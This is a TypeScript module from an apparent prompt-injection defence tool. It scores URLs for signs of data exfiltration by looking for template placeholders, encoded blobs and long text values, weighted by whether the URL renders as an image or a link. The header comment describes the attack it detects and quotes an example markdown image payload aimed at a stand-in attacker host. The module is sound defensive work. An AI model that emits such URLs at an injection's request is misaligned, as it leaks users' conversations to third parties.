/**
 * Data exfiltration through URLs. A prompt injection asks the model to render an image whose URL carries
 * the conversation (`![](https://attacker/log?d={summary})`); the chat UI fetches the image without a
 * click and the data leaves. On the instruction side (retrieval, tool results) the URL holds a template
 * placeholder; on the output side it holds the data itself: an encoded blob, a sentence, a long value.
 */
import type { UrlKind } from './extract.js';
import type { UrlParts } from './host.js';

export interface ExfiltrationSignal {
  score: number;
  reason: string;
}

/** Placeholders a template leaves for the model to fill: {data}, {{x}}, ${x}, [USER_DATA], <SECRET>, $SECRET. */
const PLACEHOLDER =
  /\{\{?[^{}\s]{1,60}\}\}?|\$\{[^}\s]{1,60}\}|\[[A-Z][A-Z0-9_ ]{2,40}\]|<[A-Z][A-Z0-9_]{2,40}>|\$[A-Z][A-Z0-9_]{2,40}\b/;
const LONG_SEGMENT_OR_TEMPLATE = /[^/]{24}|[{}[\]<>$%]/;
const BASE64 = /^[A-Za-z0-9+/_-]{24,}={0,2}$/;
const HEX = /^[0-9a-fA-F]{32,}$/;
const MAX_PARAMS = 64;

type Strength = 'strong' | 'text' | 'weak';

/** Score by how the URL is shown: images are fetched without a click, links need one, bare text may not be linked. */
const SCORES: Record<UrlKind, Record<Strength | 'placeholder' | 'path_placeholder', number>> = {
  image: { placeholder: 0.95, path_placeholder: 0.9, strong: 0.9, text: 0.85, weak: 0.45 },
  link: { placeholder: 0.75, path_placeholder: 0.3, strong: 0.6, text: 0.4, weak: 0.3 },
  plain: { placeholder: 0.55, path_placeholder: 0.3, strong: 0.5, text: 0.35, weak: 0.25 },
};

function decode(value: string): string {
  const spaced = value.replace(/\+/g, ' ');
  try {
    return decodeURIComponent(spaced);
  } catch {
    return spaced;
  }
}

function hasMixedClasses(value: string): boolean {
  let classes = 0;
  if (/[A-Z]/.test(value)) classes++;
  if (/[a-z]/.test(value)) classes++;
  if (/[0-9+/_-]/.test(value)) classes++;
  return classes >= 3;
}

/** Words of two or more letters in the first 2 KB, when letters make up most of it. */
function countWords(value: string): number {
  const text = value.slice(0, 2048);
  const letters = text.replace(/[^\p{L}]/gu, '').length;
  if (letters < text.length * 0.6) return 0;
  return text.split(/\s+/).filter((w) => /\p{L}{2}/u.test(w)).length;
}

/** What a single value looks like: which kind of data, how strong a sign of exfiltration, or null. */
function classify(raw: string): { strength: Strength; what: string } | null {
  const value = raw.replace(/%3D/gi, '=');
  const decoded = decode(raw);
  if (/^[[{]/.test(decoded) && decoded.length >= 20) return { strength: 'strong', what: 'JSON value' };
  // Words joined by + or %20 are text even though + is also a base64 character.
  const words = decoded.length >= 30 ? countWords(decoded) : 0;
  if (words >= 4) return { strength: 'text', what: `${words}-word text value` };
  if (BASE64.test(value) && hasMixedClasses(value) && !HEX.test(value)) {
    return { strength: 'strong', what: `${value.length}-character base64 value` };
  }
  if (decoded.length >= 100) return { strength: 'strong', what: `${decoded.length}-character value` };
  if (HEX.test(value)) return { strength: 'weak', what: `${value.length}-digit hex value` };
  return null;
}

const RANK: Record<Strength, number> = { strong: 3, text: 2, weak: 1 };

/** A parameter or path segment name safe to log. */
function nameOf(name: string): string {
  const safe = name.replace(/[^\w.-]/g, '').slice(0, 20);
  return safe === '' ? '(unnamed)' : safe;
}

function strongestValue(parts: UrlParts): { strength: Strength; reason: string } | null {
  let best: { strength: Strength; reason: string } | null = null;
  const consider = (value: string, where: string) => {
    const found = classify(value);
    if (found && (!best || RANK[found.strength] > RANK[best.strength])) {
      best = { strength: found.strength, reason: `${found.what} in ${where}` };
    }
  };
  const params = parts.query.split(/[&;]/, MAX_PARAMS);
  for (const param of params) {
    const eq = param.indexOf('=');
    const name = eq < 0 ? '' : param.slice(0, eq);
    consider(eq < 0 ? param : param.slice(eq + 1), `query parameter '${nameOf(decode(name))}'`);
  }
  for (const segment of parts.path.split('/', MAX_PARAMS)) {
    // Hex file names are content hashes (CDNs), not data; only base64, text and long segments count.
    const found = classify(segment.replace(/\.[a-z0-9]{2,5}$/i, ''));
    if (found && found.strength !== 'weak' && (!best || RANK[found.strength] > RANK[best.strength])) {
      best = { strength: found.strength, reason: `${found.what} in the path` };
    }
  }
  if (!best && parts.query.length >= 300)
    best = { strength: 'strong', reason: `${parts.query.length}-character query` };
  if (!best && params.length >= 10) best = { strength: 'weak', reason: `${params.length} query parameters` };
  return best;
}

/** How strongly a URL with a host looks like it carries data out, or null. */
export function exfiltrationSignal(parts: UrlParts, kind: UrlKind): ExfiltrationSignal | null {
  // Most URLs have no query and short path segments: nothing can hide there.
  if (parts.query === '' && !LONG_SEGMENT_OR_TEMPLATE.test(parts.path)) return null;
  const scores = SCORES[kind];
  const { query, path } = parts;
  if (PLACEHOLDER.test(query) || PLACEHOLDER.test(decode(query))) {
    return { score: scores.placeholder, reason: 'a template placeholder in the query' };
  }
  if (PLACEHOLDER.test(path) || PLACEHOLDER.test(decode(path))) {
    return { score: scores.path_placeholder, reason: 'a template placeholder in the path' };
  }
  const value = strongestValue(parts);
  return value ? { score: scores[value.strength], reason: value.reason } : null;
}
